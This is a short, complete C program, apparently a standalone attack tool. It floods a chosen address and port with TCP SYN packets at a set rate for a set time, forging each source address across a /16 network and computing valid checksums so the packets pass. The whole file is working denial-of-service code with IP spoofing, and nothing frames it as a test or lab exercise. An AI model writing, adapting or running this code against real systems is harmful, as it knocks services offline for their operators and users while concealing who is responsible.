/* flood ADDRESS PORT NET RATE SECONDS: SYNs at a fixed rate, their sources all over NET/16. Prints how many. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/tcp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct frame {
	struct iphdr ip;
	struct tcphdr tcp;
} __attribute__((packed));

static uint64_t now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return t.tv_sec * 1000000000ULL + t.tv_nsec;
}

static uint32_t sum(const void *data, size_t bytes, uint32_t total)
{
	const uint16_t *word = data;

	for (; bytes; bytes -= 2)
		total += *word++;
	return total;
}

static uint16_t folded(uint32_t total)
{
	total = (total & 0xffff) + (total >> 16);
	return ~((total & 0xffff) + (total >> 16));
}

int main(int argc, char **argv)
{
	struct sockaddr_in target = { .sin_family = AF_INET };
	struct frame f = {};
	uint64_t sent = 0, rate, began, end, seed = now();
	struct in_addr net;
	int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);

	if (argc != 6 || fd < 0)
		return 2;
	inet_pton(AF_INET, argv[1], &target.sin_addr);
	inet_pton(AF_INET, argv[3], &net);
	rate = atoi(argv[4]);
	f.ip = (struct iphdr){ .version = 4, .ihl = 5, .tot_len = htons(sizeof(f)), .ttl = 64, .protocol = IPPROTO_TCP };
	f.ip.daddr = target.sin_addr.s_addr;
	f.tcp.dest = htons(atoi(argv[2]));
	f.tcp.doff = 5;
	f.tcp.syn = 1;
	f.tcp.window = htons(65535);
	began = now();
	end = began + (uint64_t)(atof(argv[5]) * 1e9);
	while (now() < end) {
		uint64_t due = (now() - began) * rate / 1000000000ULL;
		struct timespec pause = { .tv_nsec = 200000 };

		for (; sent < due; sent++) {
			uint32_t pseudo;

			seed = seed * 6364136223846793005ULL + 1442695040888963407ULL;
			f.ip.saddr = htonl(ntohl(net.s_addr) | (seed >> 40 & 0xffff));
			f.tcp.source = htons(1024 + (seed >> 20) % 60000);
			f.tcp.seq = seed >> 32;
			f.tcp.check = 0;
			pseudo = sum(&f.ip.saddr, 8, htons(IPPROTO_TCP) + htons(sizeof(f.tcp)));
			f.tcp.check = folded(sum(&f.tcp, sizeof(f.tcp), pseudo));
			sendto(fd, &f, sizeof(f), 0, (void *)&target, sizeof(target));
		}
		nanosleep(&pause, NULL);
	}
	printf("%lu\n", sent);
	return 0;
}
